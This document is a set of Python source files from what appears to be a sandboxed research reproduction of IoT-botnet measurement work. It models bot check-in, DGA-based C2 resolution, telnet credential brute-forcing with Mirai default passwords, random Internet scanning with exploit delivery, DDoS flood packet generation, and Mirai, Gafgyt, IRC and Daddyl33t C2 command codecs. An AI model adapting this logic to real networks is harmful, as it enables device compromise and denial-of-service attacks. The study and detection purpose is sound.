    interval = 1.0 / FLOOD_PPS
    ts = start
    packets.append(tcp_packet(bot_ip, command.target_ip, sport,
                              command.target_port, TcpFlags.SYN, seq=seq,
                              timestamp=ts)); ts += interval
    packets.append(tcp_packet(bot_ip, command.target_ip, sport,
                              command.target_port, TcpFlags.ACK, seq=seq + 1,
                              timestamp=ts)); ts += interval
    offset = 0
    for _ in range(max(0, count - 2)):
        junk = "".join(rng.choice(string.ascii_letters) for _ in range(32))
        frame = f"SEND\ndestination:/queue/x\n\n{junk}\x00".encode("ascii")
        packets.append(
            tcp_packet(bot_ip, command.target_ip, sport, command.target_port,
                       TcpFlags.PSH | TcpFlags.ACK, frame,
                       seq=seq + 1 + offset, timestamp=ts))
        offset += len(frame)
        ts += interval
    return packets


def _vse(command, bot_ip, rng, start, count, variant):
    """VSE: TSource Engine Query floods at a game server (UDP)."""
    sport = ephemeral_port(rng)
    return [
        udp_packet(bot_ip, command.target_ip, sport, command.target_port,
                   VSE_PROBE, timestamp=ts)
        for ts in _times(start, count)
    ]


def _std(command, bot_ip, rng, start, count, variant):
    """STD: one random string generated once, then flooded (Gafgyt)."""
    text = "".join(rng.choice(string.ascii_lowercase) for _ in range(32))
    payload = text.encode("ascii")
    sport = ephemeral_port(rng)
    return [
        udp_packet(bot_ip, command.target_ip, sport, command.target_port,
                   payload, timestamp=ts)
        for ts in _times(start, count)
    ]


def _nfo(command, bot_ip, rng, start, count, variant):
    """NFO: custom payload at UDP port 238 of the target (daddyl33t)."""
    sport = ephemeral_port(rng)
    return [
        udp_packet(bot_ip, command.target_ip, sport, 238, NFO_PAYLOAD,
                   timestamp=ts)
        for ts in _times(start, count)
    ]
