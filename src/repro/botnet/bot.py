"""Bot runtime: the behavior a malware binary exhibits when activated.

The sandbox's "QEMU emulation" of a synthetic sample boils down to driving
one of these: a :class:`Bot` is constructed from the binary's recovered
:class:`~repro.binary.config.BotConfig` and then performs the family's
observable network behavior — C2 check-in and keepalive, proliferation
scanning with credential/exploit delivery, P2P bootstrap for Mozi/Hajime,
and DDoS execution when commanded.

All network I/O goes through a :class:`NetworkAdapter` so the sandbox can
interpose: fake the Internet entirely (observe mode), redirect C2 traffic
to arbitrary probe targets (weaponized mode, CnCHunter's MITM trick), or
complete handshakes as a fake victim (the handshaker of section 2.4).
"""

from __future__ import annotations

import random
from dataclasses import dataclass
from typing import Protocol as TypingProtocol

from ..binary.config import BotConfig
from ..netsim.addresses import ephemeral_port, ip_to_int, is_reserved
from ..netsim.capture import Capture
from ..netsim.internet import SECONDS_PER_DAY, STUDY_EPOCH
from ..netsim.packet import Packet, udp_packet
from .ddos import AttackVariant, generate_attack
from .exploits import EXPLOIT_INDEX, Vulnerability, vulnerability_for_index
from .families import C2Dialect, Family, dga_domains, get_family
from .protocols import daddyl33t, gafgyt, irc, mirai, p2p
from .protocols.base import AttackCommand

TELNET_PORTS = (23, 2323)

#: Classic Mirai credential dictionary (excerpt) used on telnet scans.
TELNET_CREDENTIALS = (
    (b"root", b"xc3511"),
    (b"root", b"vizxv"),
    (b"admin", b"admin"),
    (b"root", b"default"),
    (b"support", b"support"),
)


class BotSession(TypingProtocol):
    """The connection handle a :class:`NetworkAdapter` returns."""

    def send(self, data: bytes) -> None: ...
    def recv(self) -> bytes: ...
    def close(self) -> None: ...


class NetworkAdapter(TypingProtocol):
    """The bot's view of the network; implemented by the sandbox."""

    def tcp_connect(
        self, dst: int, port: int, trace: Capture | None = None
    ) -> BotSession | None: ...

    def send_datagram(self, pkt: Packet, trace: Capture | None = None) -> None: ...

    def dns_lookup(self, name: str, trace: Capture | None = None) -> int | None: ...

    def clock_now(self) -> float: ...


@dataclass(slots=True)
class ScanHit:
    """One completed proliferation interaction (victim engaged)."""

    target: int
    port: int
    payload: bytes
    vulnerability: Vulnerability | None


class Bot:
    """Family behavior model driven by a recovered bot config."""

    def __init__(self, config: BotConfig, bot_ip: int, rng: random.Random):
        self.config = config
        self.family: Family = get_family(config.family)
        self.bot_ip = bot_ip
        self.rng = rng
        self._server_bytes = b""
        self._bot_id = bytes(
            rng.choice(b"abcdefghijklmnopqrstuvwxyz") for _ in range(8)
        )
        # scan-path caches: the port list, the per-port armed exploits,
        # and built payloads are pure functions of the (immutable) config,
        # so they are computed once per bot instead of once per target
        self._scan_ports: list[int] | None = None
        self._armed_by_port: dict[int, list[Vulnerability]] | None = None
        self._payload_cache: dict[object, bytes] = {}
        #: the DGA candidate that last resolved (diagnostics/tests)
        self.last_dga_domain: str | None = None

    # -- C2 interaction -------------------------------------------------------

    def resolve_c2(self, adapter: NetworkAdapter, trace: Capture | None = None) -> int | None:
        """Resolve the configured C2 endpoint to an address."""
        if self.config.uses_dga:
            return self._resolve_dga(adapter, trace)
        if not self.config.c2_host:
            return None
        if not self.config.uses_dns:
            return ip_to_int(self.config.c2_host)
        return adapter.dns_lookup(self.config.c2_host, trace)

    def _resolve_dga(self, adapter: NetworkAdapter, trace: Capture | None) -> int | None:
        """Walk today's generated candidates until one resolves.

        The candidate list is a pure function of (schedule seed, family,
        day) — the same list the operator drew registrations from — so a
        blocked or registrar-lost name just moves the bot to the next
        candidate: block evasion in one loop.
        """
        day = int((adapter.clock_now() - STUDY_EPOCH) // SECONDS_PER_DAY)
        for domain in dga_domains(self.config.dga_seed, self.family.name, day):
            address = adapter.dns_lookup(domain, trace)
            if address is not None:
                self.last_dga_domain = domain
                return address
        return None

    def checkin_payload(self) -> bytes:
        """The first application bytes the bot sends after connecting."""
        dialect = self.family.dialect
        if dialect == C2Dialect.MIRAI_BINARY:
            return mirai.encode_checkin(self._bot_id)
        if dialect == C2Dialect.GAFGYT_TEXT:
            return gafgyt.CHECKIN
        if dialect == C2Dialect.DADDYL33T_TEXT:
            return daddyl33t.LOGIN
        if dialect == C2Dialect.IRC:
            return irc.encode_register(irc.random_nick(self.rng))
        raise ValueError(f"{self.family.name} has no C2 check-in")

    def keepalive_payload(self) -> bytes:
        dialect = self.family.dialect
        if dialect == C2Dialect.MIRAI_BINARY:
            return mirai.KEEPALIVE
        if dialect == C2Dialect.GAFGYT_TEXT:
            return gafgyt.PING
        if dialect == C2Dialect.DADDYL33T_TEXT:
            return b"pong\r\n"
        if dialect == C2Dialect.IRC:
            return irc.encode_pong()
        raise ValueError(f"{self.family.name} has no C2 keepalive")

    def connect_c2(
        self, adapter: NetworkAdapter, trace: Capture | None = None,
        override_target: tuple[int, int] | None = None,
    ) -> BotSession | None:
        """Connect and check in; ``override_target`` is the MITM hook."""
        if override_target is not None:
            c2_ip, c2_port = override_target
        else:
            c2_ip = self.resolve_c2(adapter, trace)
            c2_port = self.config.c2_port
            if c2_ip is None or not c2_port:
                return None
        session = adapter.tcp_connect(c2_ip, c2_port, trace)
        if session is None:
            return None
        session.send(self.checkin_payload())
        self._server_bytes += session.recv()
        return session

    def poll_c2(self, session: BotSession) -> list[AttackCommand]:
        """One keepalive round-trip; returns newly received commands."""
        session.send(self.keepalive_payload())
        self._server_bytes += session.recv()
        return self.decode_commands()

    def decode_commands(self) -> list[AttackCommand]:
        """Bot-side decode of everything the server has sent so far."""
        extractors = {
            C2Dialect.MIRAI_BINARY: mirai.extract_commands,
            C2Dialect.GAFGYT_TEXT: gafgyt.extract_commands,
            C2Dialect.DADDYL33T_TEXT: daddyl33t.extract_commands,
            C2Dialect.IRC: irc.extract_commands,
        }
        extractor = extractors.get(self.family.dialect)
        if extractor is None:
            return []
        return extractor(self._server_bytes)

    @property
    def server_bytes(self) -> bytes:
        """Raw server→bot stream accumulated so far (for the profilers)."""
        return self._server_bytes

    def reset_stream(self) -> None:
        """Forget accumulated server bytes (fresh probe in weaponized mode)."""
        self._server_bytes = b""

    # -- P2P ------------------------------------------------------------------

    def p2p_bootstrap(self, adapter: NetworkAdapter, trace: Capture | None = None) -> int:
        """Emit DHT queries to the configured bootstrap peers."""
        sent = 0
        my_id = p2p.node_id(self.rng)
        for peer in self.config.p2p_bootstrap:
            host, _, port_text = peer.partition(":")
            port = int(port_text) if port_text else p2p.MOZI_BOOTSTRAP_PORT
            target = ip_to_int(host)
            payload = p2p.encode_find_node(my_id, p2p.node_id(self.rng))
            adapter.send_datagram(
                udp_packet(self.bot_ip, target, ephemeral_port(self.rng), port, payload),
                trace,
            )
            sent += 1
        return sent

    # -- proliferation ----------------------------------------------------------

    def scan_port_list(self) -> list[int]:
        """The (cached) port mix this bot scans.

        Mirai-style bots always scan telnet; exploit-armed bots also scan
        each vulnerability's service port.
        """
        ports = self._scan_ports
        if ports is None:
            ports = list(self.config.scan_ports) or list(TELNET_PORTS)
            for index in self.config.exploit_ids:
                vuln = EXPLOIT_INDEX.get(index)
                if vuln is not None and vuln.port not in ports:
                    ports.append(vuln.port)
            self._scan_ports = ports
        return ports

    def scan_targets(self, count: int) -> list[tuple[int, int]]:
        """Pick ``count`` random (ip, port) scan targets in one batch."""
        ports = self.scan_port_list()
        randrange = self.rng.randrange
        choice = self.rng.choice
        targets: list[tuple[int, int]] = []
        append = targets.append
        for _ in range(count):
            # same draw order as the one-at-a-time loop: addresses are
            # redrawn until one is routable, then the port is drawn
            address = randrange(0x01000000, 0xDF000000)
            while is_reserved(address):
                address = randrange(0x01000000, 0xDF000000)
            append((address, choice(ports)))
        return targets

    def _armed_for_port(self, port: int) -> list[Vulnerability]:
        table = self._armed_by_port
        if table is None:
            table = {}
            for index in self.config.exploit_ids:
                if index in EXPLOIT_INDEX:
                    vuln = vulnerability_for_index(index)
                    table.setdefault(vuln.port, []).append(vuln)
            self._armed_by_port = table
        return table.get(port, ())

    def attack_payload_for_port(self, port: int) -> tuple[bytes, Vulnerability | None]:
        """What the bot sends once a victim on ``port`` accepts.

        Telnet ports get a credential attempt; exploit ports get the
        exploit request for the (first) armed vulnerability on that port.
        """
        cache = self._payload_cache
        if port in TELNET_PORTS:
            user, password = self.rng.choice(TELNET_CREDENTIALS)
            key = (user, password)
            payload = cache.get(key)
            if payload is None:
                payload = cache[key] = user + b"\r\n" + password + b"\r\n"
            return payload, None
        matching = self._armed_for_port(port)
        if matching:
            # bots cycle through every exploit they carry for a service,
            # so victims on a shared port see each of them over time
            vuln = self.rng.choice(matching)
            payload = cache.get(vuln.key)
            if payload is None:
                downloader = self.config.downloader or self.config.c2_host
                loader = self.config.loader_name or "bot.sh"
                payload = cache[vuln.key] = vuln.build_payload(
                    downloader, loader)
            return payload, vuln
        # scanning a port it has no exploit for: probe with a bare GET
        return b"GET / HTTP/1.0\r\n\r\n", None

    def scan_burst(
        self, adapter: NetworkAdapter, count: int, trace: Capture | None = None
    ) -> list[ScanHit]:
        """Scan ``count`` random targets, exploiting any that engage."""
        hits: list[ScanHit] = []
        connect = adapter.tcp_connect
        payload_for = self.attack_payload_for_port
        append = hits.append
        for address, port in self.scan_targets(count):
            session = connect(address, port, trace)
            if session is None:
                continue
            payload, vuln = payload_for(port)
            session.send(payload)
            session.recv()
            session.close()
            append(ScanHit(address, port, payload, vuln))
        return hits

    # -- attacks -----------------------------------------------------------------

    def execute_attack(
        self,
        adapter: NetworkAdapter,
        command: AttackCommand,
        start_time: float,
        trace: Capture | None = None,
        max_packets: int = 400,
    ) -> int:
        """Launch a commanded DDoS attack; returns packets emitted."""
        variant = AttackVariant(
            rotate_source_ports=self.variant_rotates_ports(),
            rotate_dest_ports=self.config.variant.endswith(".b"),
        )
        packets = generate_attack(
            command, self.bot_ip, self.rng, start_time, max_packets, variant
        )
        for pkt in packets:
            adapter.send_datagram(pkt, trace)
        return len(packets)

    def variant_rotates_ports(self) -> bool:
        """Mirai ``.b``-style variants rotate source ports (section 5.1)."""
        return self.family.name == "mirai" and self.config.variant.endswith(".b")
