"""Mozi/Hajime-style P2P (DHT) communication.

P2P samples matter to the pipeline for one reason: they must be *filtered
out* of the D-C2s dataset (section 2.3), because they have no central C2.
Still, activating them in the sandbox produces recognizable DHT traffic —
Mozi reuses the BitTorrent DHT with ``find_node``/``announce_peer``-style
bencoded UDP messages against public bootstrap nodes.

We implement a minimal bencode codec and the two message kinds Mozi emits
on activation, which the C2-detection layer uses to classify a sample as
P2P rather than client-server.
"""

from __future__ import annotations

import random

from .base import ProtocolError

MOZI_BOOTSTRAP_PORT = 6881


def bencode(value) -> bytes:
    """Encode ints, bytes, str, lists and dicts in bencoding."""
    if isinstance(value, int):
        return b"i" + str(value).encode() + b"e"
    if isinstance(value, str):
        value = value.encode("ascii")
    if isinstance(value, bytes):
        return str(len(value)).encode() + b":" + value
    if isinstance(value, list):
        return b"l" + b"".join(bencode(item) for item in value) + b"e"
    if isinstance(value, dict):
        out = b"d"
        for key in sorted(value):
            out += bencode(key) + bencode(value[key])
        return out + b"e"
    raise ProtocolError(f"cannot bencode {type(value).__name__}")


def bdecode(data: bytes):
    """Decode one bencoded value; raises on trailing garbage."""
    value, offset = _bdecode_at(data, 0)
    if offset != len(data):
        raise ProtocolError("trailing bytes after bencoded value")
    return value


def _bdecode_at(data: bytes, offset: int):
    if offset >= len(data):
        raise ProtocolError("truncated bencoding")
    lead = data[offset : offset + 1]
    if lead == b"i":
        end = data.find(b"e", offset)
        if end < 0:
            raise ProtocolError("unterminated integer")
        text = data[offset + 1 : end]
        if not (text.lstrip(b"-").isdigit() and text):
            raise ProtocolError("bad integer")
        return int(text), end + 1
    if lead == b"l":
        items = []
        offset += 1
        while offset < len(data) and data[offset : offset + 1] != b"e":
            item, offset = _bdecode_at(data, offset)
            items.append(item)
        if offset >= len(data):
            raise ProtocolError("unterminated list")
        return items, offset + 1
    if lead == b"d":
        result = {}
        offset += 1
        while offset < len(data) and data[offset : offset + 1] != b"e":
            key, offset = _bdecode_at(data, offset)
            if not isinstance(key, bytes):
                raise ProtocolError("dict key must be a string")
            value, offset = _bdecode_at(data, offset)
            result[key] = value
        if offset >= len(data):
            raise ProtocolError("unterminated dict")
        return result, offset + 1
    if lead.isdigit():
        colon = data.find(b":", offset)
        if colon < 0:
            raise ProtocolError("unterminated string length")
        text = data[offset:colon]
        if not text.isdigit():
            raise ProtocolError("bad string length")
        length = int(text)
        start = colon + 1
        if start + length > len(data):
            raise ProtocolError("truncated string")
        return data[start : start + length], start + length
    raise ProtocolError(f"bad bencoding lead byte {lead!r}")


def node_id(rng: random.Random) -> bytes:
    """A 20-byte DHT node id; Mozi's ids embed a recognizable prefix."""
    return b"\x88\x88" + bytes(rng.randrange(256) for _ in range(18))


def encode_find_node(sender_id: bytes, target_id: bytes, txid: bytes = b"mz") -> bytes:
    """A DHT ``find_node`` query (what Mozi spams at bootstrap nodes)."""
    if len(sender_id) != 20 or len(target_id) != 20:
        raise ProtocolError("node ids must be 20 bytes")
    return bencode({
        b"t": txid, b"y": b"q", b"q": b"find_node",
        b"a": {b"id": sender_id, b"target": target_id},
    })


def encode_announce(sender_id: bytes, port: int, txid: bytes = b"mz") -> bytes:
    """A DHT ``announce_peer`` query."""
    if len(sender_id) != 20:
        raise ProtocolError("node id must be 20 bytes")
    return bencode({
        b"t": txid, b"y": b"q", b"q": b"announce_peer",
        b"a": {b"id": sender_id, b"port": port},
    })


def is_dht_query(payload: bytes) -> bool:
    """Classifier used by the C2 detector to tag P2P traffic."""
    try:
        message = bdecode(payload)
    except ProtocolError:
        return False
    return (
        isinstance(message, dict)
        and message.get(b"y") == b"q"
        and message.get(b"q") in (b"find_node", b"announce_peer", b"get_peers", b"ping")
    )


def query_kind(payload: bytes) -> str | None:
    """The DHT verb of a query payload, or None if not a query."""
    if not is_dht_query(payload):
        return None
    return bdecode(payload)[b"q"].decode("ascii")
