"""Mirai's binary C2 protocol.

Modeled on the leaked Mirai source (``bot/main.c`` and ``cnc/main.go``):

* **Check-in** — the bot opens a TCP connection and sends the 4-byte
  handshake ``00 00 00 01``, then a 1-byte source-id length and the id.
* **Keepalive** — every minute both sides exchange a 2-byte length-prefixed
  ping (length 0).
* **Attack command** — the CNC pushes a length-prefixed binary structure::

      u16  total length (of everything that follows)
      u32  duration (seconds)
      u8   attack id
      u8   target count
      per target: u32 ipv4, u8 cidr prefix
      u8   flag count
      per flag: u8 key, u8 value length, value bytes

  Flag key 7 is ``port`` in the original source; we encode the target port
  there, as real Mirai CNCs do.

The module gives both halves (bot codec and CNC codec) plus the stream
profiler MalNet uses to find DDoS commands in captured traffic.
"""

from __future__ import annotations

import struct

from .base import (
    AttackCommand,
    METHOD_STOMP,
    METHOD_SYN,
    METHOD_TLS,
    METHOD_UDP,
    METHOD_VSE,
    ProtocolError,
)

HANDSHAKE = b"\x00\x00\x00\x01"
KEEPALIVE = b"\x00\x00"

#: Attack ids from the leaked source (vector table in attack.c), reduced to
#: the methods observed in the paper.  Id 6 (GREIP) et al. are decoded but
#: mapped to their closest observed method.
ATTACK_IDS: dict[int, str] = {
    0: METHOD_UDP,      # ATK_VEC_UDP
    1: METHOD_VSE,      # ATK_VEC_VSE
    3: METHOD_SYN,      # ATK_VEC_SYN
    5: METHOD_STOMP,    # ATK_VEC_ACK_STOMP
    33: METHOD_TLS,     # custom variant id observed in modern forks
}
METHOD_IDS = {method: attack_id for attack_id, method in ATTACK_IDS.items()}

FLAG_PORT = 7  # ATK_OPT_DPORT in the leaked source


def encode_checkin(bot_id: bytes = b"") -> bytes:
    """Bot hello: handshake word plus optional source id."""
    if len(bot_id) > 255:
        raise ProtocolError("bot id too long")
    return HANDSHAKE + bytes([len(bot_id)]) + bot_id


def decode_checkin(data: bytes) -> bytes:
    """Parse a bot hello; returns the bot id (may be empty)."""
    if len(data) < 5 or data[:4] != HANDSHAKE:
        raise ProtocolError("bad mirai handshake")
    id_len = data[4]
    if len(data) < 5 + id_len:
        raise ProtocolError("truncated bot id")
    return data[5 : 5 + id_len]


def encode_attack(command: AttackCommand) -> bytes:
    """CNC-side encoding of an attack command."""
    try:
        attack_id = METHOD_IDS[command.method]
    except KeyError:
        raise ProtocolError(
            f"mirai cannot encode method {command.method!r}"
        ) from None
    port_value = str(command.target_port).encode("ascii")
    body = struct.pack("!IBB", command.duration, attack_id, 1)
    body += struct.pack("!IB", command.target_ip, 32)
    body += bytes([1])  # one flag
    body += bytes([FLAG_PORT, len(port_value)]) + port_value
    return struct.pack("!H", len(body)) + body


def decode_attack(data: bytes) -> tuple[AttackCommand, int]:
    """Decode one attack command; returns (command, bytes_consumed)."""
    if len(data) < 2:
        raise ProtocolError("short mirai frame")
    (length,) = struct.unpack("!H", data[:2])
    if length == 0:
        raise ProtocolError("keepalive, not an attack")
    if len(data) < 2 + length:
        raise ProtocolError("truncated mirai frame")
    body = data[2 : 2 + length]
    if len(body) < 6:
        raise ProtocolError("mirai attack body too short")
    duration, attack_id, target_count = struct.unpack("!IBB", body[:6])
    offset = 6
    if target_count < 1:
        raise ProtocolError("no targets")
    targets: list[int] = []
    for _ in range(target_count):
        if offset + 5 > len(body):
            raise ProtocolError("truncated target list")
        ip, _prefix = struct.unpack("!IB", body[offset : offset + 5])
        targets.append(ip)
        offset += 5
    if offset >= len(body):
        raise ProtocolError("missing flag count")
    flag_count = body[offset]
    offset += 1
    port = 0
    for _ in range(flag_count):
        if offset + 2 > len(body):
            raise ProtocolError("truncated flag")
        key, value_len = body[offset], body[offset + 1]
        offset += 2
        if offset + value_len > len(body):
            raise ProtocolError("truncated flag value")
        value = body[offset : offset + value_len]
        offset += value_len
        if key == FLAG_PORT:
            try:
                port = int(value.decode("ascii"))
            except ValueError as exc:
                raise ProtocolError("bad port flag") from exc
    method = ATTACK_IDS.get(attack_id)
    if method is None:
        raise ProtocolError(f"unknown mirai attack id {attack_id}")
    command = AttackCommand(
        method=method, target_ip=targets[0], target_port=port, duration=duration
    )
    return command, 2 + length


def extract_commands(server_stream: bytes) -> list[AttackCommand]:
    """Profile a captured server→bot byte stream for attack commands.

    This is MalNet's Mirai profiler: it walks the length-prefixed frame
    stream, skipping keepalives, and decodes every well-formed attack.
    Garbage prefixes (e.g. partial capture) make it resynchronize by
    sliding one byte.
    """
    commands: list[AttackCommand] = []
    offset = 0
    while offset + 2 <= len(server_stream):
        (length,) = struct.unpack("!H", server_stream[offset : offset + 2])
        if length == 0:  # keepalive frame
            offset += 2
            continue
        try:
            command, consumed = decode_attack(server_stream[offset:])
        except ProtocolError:
            offset += 1  # resync
            continue
        commands.append(command)
        offset += consumed
    return commands


def is_checkin(client_stream: bytes) -> bool:
    """Does a captured bot→server stream begin with the Mirai hello?"""
    return client_stream.startswith(HANDSHAKE)
