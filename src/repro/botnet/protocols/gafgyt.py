"""Gafgyt's text-based C2 protocol.

Modeled on the public Gafgyt/BASHLITE source: newline-terminated ASCII.

* Bot check-in: ``BUILD <arch>`` then periodic ``PING`` which the server
  answers with ``PONG``.
* Broadcast commands from the server start with ``!*``::

      !* UDP <ip> <port> <time> [...]
      !* STD <ip> <port> <time>
      !* VSE <ip> <port> <time>
      !* SCANNER ON|OFF
      !* KILLATTK

The profiler extracts DDoS commands from the server→bot text stream; the
paper builds this profile from the malware's published source (2.5a).
"""

from __future__ import annotations

from .base import (
    AttackCommand,
    METHOD_STD,
    METHOD_UDP,
    METHOD_VSE,
    ProtocolError,
)
from ...netsim.addresses import AddressError, int_to_ip, ip_to_int

CHECKIN = b"BUILD MIPS\n"
PING = b"PING\n"
PONG = b"PONG\n"

_VERB_TO_METHOD = {
    "UDP": METHOD_UDP,
    "STD": METHOD_STD,
    "VSE": METHOD_VSE,
}
_METHOD_TO_VERB = {method: verb for verb, method in _VERB_TO_METHOD.items()}


def encode_attack(command: AttackCommand) -> bytes:
    """Server-side line for an attack command."""
    verb = _METHOD_TO_VERB.get(command.method)
    if verb is None:
        raise ProtocolError(f"gafgyt cannot encode method {command.method!r}")
    return (
        f"!* {verb} {int_to_ip(command.target_ip)} "
        f"{command.target_port} {command.duration}\n"
    ).encode("ascii")


def decode_attack_line(line: str) -> AttackCommand | None:
    """Decode one ``!*`` line; None for non-attack commands (SCANNER etc.)."""
    parts = line.strip().split()
    if len(parts) < 2 or parts[0] != "!*":
        raise ProtocolError(f"not a gafgyt broadcast: {line!r}")
    verb = parts[1].upper()
    method = _VERB_TO_METHOD.get(verb)
    if method is None:
        return None  # KILLATTK, SCANNER ON, etc.
    if len(parts) < 5:
        raise ProtocolError(f"short {verb} command: {line!r}")
    try:
        target_ip = ip_to_int(parts[2])
        port = int(parts[3])
        duration = int(parts[4])
    except (AddressError, ValueError) as exc:
        raise ProtocolError(f"bad {verb} operands: {line!r}") from exc
    return AttackCommand(
        method=method, target_ip=target_ip, target_port=port, duration=duration
    )


def extract_commands(server_stream: bytes) -> list[AttackCommand]:
    """Profile a captured server→bot text stream for attack commands."""
    commands: list[AttackCommand] = []
    for raw_line in server_stream.split(b"\n"):
        line = raw_line.decode("ascii", "replace").strip()
        if not line.startswith("!*"):
            continue
        try:
            command = decode_attack_line(line)
        except ProtocolError:
            continue
        if command is not None:
            commands.append(command)
    return commands


def is_checkin(client_stream: bytes) -> bool:
    """Does a captured bot→server stream look like a Gafgyt check-in?"""
    head = client_stream[:64].upper()
    return head.startswith(b"BUILD") or head.startswith(b"PING")
