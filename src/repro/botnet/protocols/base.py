"""Shared vocabulary for C2 protocol dialects.

Every dialect module exposes the same surface:

* bot-side codec — what a bot sends to check in and keep alive;
* server-side codec — how the C2 encodes attack commands;
* a *profiler* — ``extract_commands(server_bytes)`` that recovers
  :class:`AttackCommand` objects from a captured server→bot byte stream.

The profilers are the paper's "profiles of three IoT malware application
layer communication protocols" (section 2.5a) used to spot DDoS commands
inside recorded C2 traffic.
"""

from __future__ import annotations

from dataclasses import dataclass

#: Canonical attack method names used across the study.  Per-family
#: command verbs map onto these (section 5.1): e.g. Mirai attack id 0,
#: Gafgyt ``UDP`` and Daddyl33t ``UDPRAW`` are all the UDP flood.
METHOD_UDP = "udp"
METHOD_UDPRAW = "udpraw"
METHOD_SYN = "syn"
METHOD_HYDRASYN = "hydrasyn"
METHOD_TLS = "tls"
METHOD_BLACKNURSE = "blacknurse"
METHOD_STOMP = "stomp"
METHOD_VSE = "vse"
METHOD_STD = "std"
METHOD_NFO = "nfo"

ALL_METHODS = (
    METHOD_UDP, METHOD_UDPRAW, METHOD_SYN, METHOD_HYDRASYN, METHOD_TLS,
    METHOD_BLACKNURSE, METHOD_STOMP, METHOD_VSE, METHOD_STD, METHOD_NFO,
)

#: The 8 attack *types* of section 5.1 (UDP flood subsumes the per-family
#: verbs ``udp``/``udpraw``; SYN subsumes ``syn``/``hydrasyn``).
ATTACK_TYPES = (
    "UDP Flood", "SYN Flood", "TLS", "BLACKNURSE", "STOMP", "VSE", "STD", "NFO"
)


def method_to_type(method: str) -> str:
    """Collapse per-family verbs into the paper's 8 attack types."""
    mapping = {
        METHOD_UDP: "UDP Flood",
        METHOD_UDPRAW: "UDP Flood",
        METHOD_SYN: "SYN Flood",
        METHOD_HYDRASYN: "SYN Flood",
        METHOD_TLS: "TLS",
        METHOD_BLACKNURSE: "BLACKNURSE",
        METHOD_STOMP: "STOMP",
        METHOD_VSE: "VSE",
        METHOD_STD: "STD",
        METHOD_NFO: "NFO",
    }
    try:
        return mapping[method]
    except KeyError:
        raise ValueError(f"unknown attack method {method!r}") from None


@dataclass(frozen=True)
class AttackCommand:
    """A decoded DDoS command: what to attack, how, and for how long."""

    method: str
    target_ip: int
    target_port: int
    duration: int  # seconds

    def __post_init__(self) -> None:
        if self.method not in ALL_METHODS:
            raise ValueError(f"unknown attack method {self.method!r}")
        if not 0 <= self.target_port <= 0xFFFF:
            raise ValueError(f"bad target port {self.target_port}")
        if self.duration <= 0:
            raise ValueError("duration must be positive")

    @property
    def attack_type(self) -> str:
        return method_to_type(self.method)


class ProtocolError(ValueError):
    """Raised when a C2 message cannot be decoded."""
