"""C2 protocol dialects: Mirai (binary), Gafgyt/Daddyl33t (text), IRC, P2P."""

from . import base, daddyl33t, gafgyt, irc, mirai, p2p

__all__ = ["base", "daddyl33t", "gafgyt", "irc", "mirai", "p2p"]
