"""Tsunami/Kaiten IRC C2 dialect.

Tsunami's distinction in the study is its IRC transport (Table 6).  The
bot registers with ``NICK``/``USER``, joins a channel, and receives
commands as ``PRIVMSG`` lines.  Attack verbs follow the classic Kaiten
style (``UDP <ip> <port> <secs>``).  MalNet does not build a dedicated
Tsunami DDoS profiler in the paper (only Mirai/Gafgyt/Daddyl33t get
profiles); Tsunami attacks, if any, are caught by the behavioral
heuristic — we mirror that split, but still implement enough IRC to
activate the samples in the sandbox.
"""

from __future__ import annotations

import random

from .base import AttackCommand, METHOD_UDP, ProtocolError
from ...netsim.addresses import AddressError, int_to_ip, ip_to_int

DEFAULT_CHANNEL = "#iot"


def encode_register(nick: str) -> bytes:
    """Bot registration burst: NICK, USER, JOIN."""
    if not nick or " " in nick:
        raise ProtocolError(f"bad nick {nick!r}")
    return (
        f"NICK {nick}\r\n"
        f"USER {nick} localhost localhost :{nick}\r\n"
        f"JOIN {DEFAULT_CHANNEL}\r\n"
    ).encode("ascii")


def random_nick(rng: random.Random) -> str:
    """Kaiten-style random nick."""
    return "MIPS|" + "".join(rng.choice("abcdefghijklmnopqrstuvwxyz") for _ in range(6))


def encode_welcome(server_name: str = "irc.c2") -> bytes:
    return f":{server_name} 001 bot :Welcome\r\n".encode("ascii")


def encode_ping(token: str = "c2") -> bytes:
    return f"PING :{token}\r\n".encode("ascii")


def encode_pong(token: str = "c2") -> bytes:
    return f"PONG :{token}\r\n".encode("ascii")


def encode_attack(command: AttackCommand, channel: str = DEFAULT_CHANNEL) -> bytes:
    """Attack order as a channel PRIVMSG (Kaiten verb style)."""
    if command.method != METHOD_UDP:
        raise ProtocolError(f"tsunami only launches UDP floods, not {command.method}")
    return (
        f":op PRIVMSG {channel} :UDP {int_to_ip(command.target_ip)} "
        f"{command.target_port} {command.duration}\r\n"
    ).encode("ascii")


def extract_commands(server_stream: bytes) -> list[AttackCommand]:
    """Parse PRIVMSG attack orders out of a server→bot IRC stream."""
    commands: list[AttackCommand] = []
    for raw in server_stream.split(b"\r\n"):
        line = raw.decode("ascii", "replace")
        if "PRIVMSG" not in line or " :" not in line:
            continue
        text = line.split(" :", 1)[1]
        parts = text.split()
        if len(parts) != 4 or parts[0].upper() != "UDP":
            continue
        try:
            commands.append(
                AttackCommand(
                    method=METHOD_UDP,
                    target_ip=ip_to_int(parts[1]),
                    target_port=int(parts[2]),
                    duration=int(parts[3]),
                )
            )
        except (AddressError, ValueError):
            continue
    return commands


def is_checkin(client_stream: bytes) -> bool:
    head = client_stream[:64].upper()
    return head.startswith(b"NICK ") or b"\r\nUSER " in head
