"""Daddyl33t's text-based C2 protocol.

The paper had no source for this family and reverse engineered the traffic
(section 2.5a).  The dialect we reproduce matches the artifacts named in
section 5.1: ``UDPRAW``, ``HYDRASYN``, ``TLS``, ``NURSE`` (BLACKNURSE) and
``NFOV6`` commands, plus a login banner exchange.

Wire format: CRLF-terminated ASCII.  The bot logs in with
``login <user> <pass>``; the server pushes attack lines of the form::

    .<VERB> <ip> <port> <time>

BLACKNURSE targets ICMP so its port operand is ``0``; ``NFOV6`` carries a
custom payload marker and targets UDP port 238 (section 5.1).
"""

from __future__ import annotations

from .base import (
    AttackCommand,
    METHOD_BLACKNURSE,
    METHOD_HYDRASYN,
    METHOD_NFO,
    METHOD_TLS,
    METHOD_UDPRAW,
    ProtocolError,
)
from ...netsim.addresses import AddressError, int_to_ip, ip_to_int

LOGIN = b"login daddy l33t\r\n"
WELCOME = b"***** daddyl33t botnet *****\r\n"

_VERB_TO_METHOD = {
    "UDPRAW": METHOD_UDPRAW,
    "HYDRASYN": METHOD_HYDRASYN,
    "TLS": METHOD_TLS,
    "NURSE": METHOD_BLACKNURSE,
    "NFOV6": METHOD_NFO,
}
_METHOD_TO_VERB = {method: verb for verb, method in _VERB_TO_METHOD.items()}

